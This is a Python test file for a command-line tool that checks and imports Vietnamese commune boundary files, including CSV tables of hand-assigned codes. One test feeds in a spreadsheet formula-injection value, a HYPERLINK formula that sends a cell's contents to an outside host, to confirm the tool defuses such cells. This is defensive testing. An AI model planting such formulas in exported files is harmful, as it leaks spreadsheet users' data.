"""``phudien boundaries check`` and ``add``: what they tell, what they write, and what they take by hand."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import geopandas as gpd
import pandas as pd
import pytest
from shapely.geometry import box

from coverage.boundary_commands import read_assignments
from coverage.cli import main
from coverage.workspace import Workspace
from geodata.errors import PhuDienError
from loaders.reports.csv_file import csv_of
from tests.geodata.four_communes import CODES, drawn, gadm, geoboundaries


def call(home: Path, *arguments: str) -> int:
    return main(["boundaries", *arguments, "--workspace", str(home), "--lang", "en"])


def answer(capsys: pytest.CaptureFixture[str]) -> dict[str, Any]:
    return dict(json.loads(capsys.readouterr().out))


@pytest.fixture
def home(tmp_path: Path) -> Path:
    return tmp_path / "office"


def write(path: Path, features: Any) -> Path:
    features.to_file(path, engine="pyogrio")
    return path


def test_check_tells_how_features_were_recognised_and_stores_nothing(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = write(tmp_path / "gadm.geojson", gadm())
    assert call(home, "check", str(file)) == 0
    told = capsys.readouterr().out
    assert "4 communes of the list of 01/07/2021 in 4 features (by names: 4)." in told
    assert "Invalid rings: none." in told
    assert "152 communes are not in the file" in told
    assert Workspace(home).batches() == []
    assert call(home, "check", str(file), "--json") == 0
    found = answer(capsys)
    assert found["batch"] is None
    assert found["recognised"] == dict.fromkeys(found["recognised"], 0) | {"names": 4}
    assert [feature["how"] for feature in found["features"]] == ["names"] * 4
    assert found["quality"]["was_coverage"] is True
    assert found["quality"]["overlaps"] == []
    assert found["quality"]["areas"]["compared"] in range(5)


def test_unmatched_features_are_written_filled_in_and_remembered(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    names = ["Cái Dầu", "Vùng 2", "Vùng 3", "Vùng 4"]
    file, table = write(tmp_path / "xa.geojson", drawn(ten=names)), tmp_path / "out.csv"
    check = ["check", str(file), "--as-of", "2021-07-01", "--json"]
    assert call(home, *check, "--unmatched", str(table)) == 1
    assert answer(capsys)["unmatched"] == ["#2 Vùng 2", "#3 Vùng 3", "#4 Vùng 4"]
    with table.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [row["suggestions"][:5] for row in rows] == list(CODES[1:])
    filled = [f"{row['feature']};{code}" for row, code in zip(rows, [CODES[1], "-", ""], strict=True)]
    table.write_text("feature;commune_code\n" + "\n".join(filled), encoding="utf-8")
    assert call(home, "add", *check[1:], "--map", str(table), "--user", "An") == 0
    found = answer(capsys)
    assert found["units_matched"] == 2
    assert (found["recognised"]["hand"], found["recognised"]["left_out"], found["recognised"]["unknown"]) == (1, 1, 1)
    # Remembered for the layout.
    assert call(home, *check) == 1
    assert answer(capsys)["unmatched"] == ["#4 Vùng 4"]


def test_crs_is_stated_on_the_command_line(home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    metres = geoboundaries().to_crs("EPSG:9208").set_crs("EPSG:5897", allow_override=True)
    file = write(tmp_path / "xa.gpkg", metres)
    call(home, "check", str(file), "--crs", "EPSG:9208", "--json")
    assert answer(capsys)["crs_from"] == "stated"
    assert call(home, "add", str(file), "--crs", "KTT 104", "--json") == 1
    assert answer(capsys)["error"]["code"] == "boundary.crs-unreadable"


def test_width_of_slivers_is_chosen(home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    features = drawn(code=list(CODES))
    features.loc[1, "geometry"] = features.geometry.iloc[1].buffer(0.0002)  # 22 m
    file = write(tmp_path / "xa.gpkg", features)
    assert call(home, "check", str(file), "--json") == 1
    narrow = answer(capsys)["quality"]
    assert not all(flaw["is_closed"] for flaw in narrow["overlaps"])
    assert call(home, "check", str(file), "--sliver-m", "50", "--json") == 0
    assert answer(capsys)["quality"]["sliver_m"] == 50
    assert call(home, "check", str(file)) == 1
    assert "Overlaps too wide to be closed, kept as drawn" in capsys.readouterr().out


@pytest.mark.parametrize("content", [b"a,b\n1,2\n", b"", "feature,commune_code\nMỹ,1".encode("utf-16")])
def test_table_of_assignments_must_be_one(content: bytes) -> None:
    with pytest.raises(PhuDienError) as caught:
        read_assignments(content, "map.csv")
    assert caught.value.code == "call.map-unreadable"


def test_assignments_are_read_with_what_they_mean() -> None:
    text = "﻿feature,commune_code,label\nA,30469,x\nB,-,x\nC,,x\nD,AUTO,x\n"
    assert read_assignments(text.encode(), "map.csv") == {"A": "30469", "B": "", "D": "auto"}


def test_texts_of_a_file_are_no_formulas_in_the_table_and_come_back_as_they_were(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    names = ["Cái Dầu", '=HYPERLINK("http://x.vn/?"&A1,"Mỹ Đức")', "'+84", "-"]
    file, table = write(tmp_path / "xa.geojson", drawn(ten=names)), tmp_path / "out.csv"
    call(home, "check", str(file), "--as-of", "2021-07-01", "--json", "--unmatched", str(table))
    with table.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert not [cell for row in rows for cell in row.values() if cell.lstrip()[:1] in tuple("=+-@")]
    filled = [{**row, "commune_code": code} for row, code in zip(rows, CODES[1:], strict=True)]
    with table.open("w", encoding="utf-8-sig", newline="") as stream:
        writer = csv.DictWriter(stream, rows[0].keys())
        writer.writeheader()
        writer.writerows(filled)
    capsys.readouterr()
    assert call(home, "add", str(file), "--as-of", "2021-07-01", "--json", "--map", str(table)) == 0
    assert answer(capsys)["recognised"]["hand"] == 3


@pytest.mark.parametrize("n_unknown", [20, 21])
def test_features_not_recognised_are_counted_and_the_first_twenty_shown(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], n_unknown: int
) -> None:
    """Small squares in the first commune that bear no commune's name, and another province's communes beside it."""
    known = drawn(tinh=["An Giang"] * 4, ten=["Cái Dầu", "Mỹ Đức", "Mỹ Phú", "Ô Long Vỹ"])
    lon, lat = known.geometry.iloc[0].representative_point().coords[0]
    inside = [box(lon, lat + n / 1e6, lon + 1e-6, lat + (n + 1) / 1e6) for n in range(n_unknown)]
    elsewhere = [box(109 + n / 1000, 12.2, 109 + (n + 1) / 1000, 12.201) for n in range(30)]
    names = [f"Vùng {n}" for n in range(n_unknown + 30)]
    provinces = ["An Giang"] * n_unknown + ["Khánh Hòa"] * 30
    rest = gpd.GeoDataFrame({"tinh": provinces, "ten": names}, geometry=inside + elsewhere, crs="EPSG:4326")
    file = write(tmp_path / "xa.gpkg", pd.concat([known, rest]))
    assert call(home, "add", str(file), "--as-of", "2021-07-01") == 0
    told = capsys.readouterr().out
    assert f"not recognised: {n_unknown}; outside the provinces: 30" in told
    assert f"Features not recognised: {n_unknown} (#5 Vùng 0" in told
    shown = [line for line in told.splitlines() if line.startswith("  #")]
    assert len(shown) == 20
    assert ("… and 1 more features" in told) == (n_unknown == 21)
    assert ("Vùng 20" in told) is False


@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "-", "'", "''", "An", "\t=1", "'An", ""])
def test_guard_of_a_text_is_taken_off_to_the_letter(text: str) -> None:
    line = csv_of(pd.DataFrame({"feature": [text], "commune_code": ["30469"]}))
    assert read_assignments(line, "map.csv") == {text: "30469"}
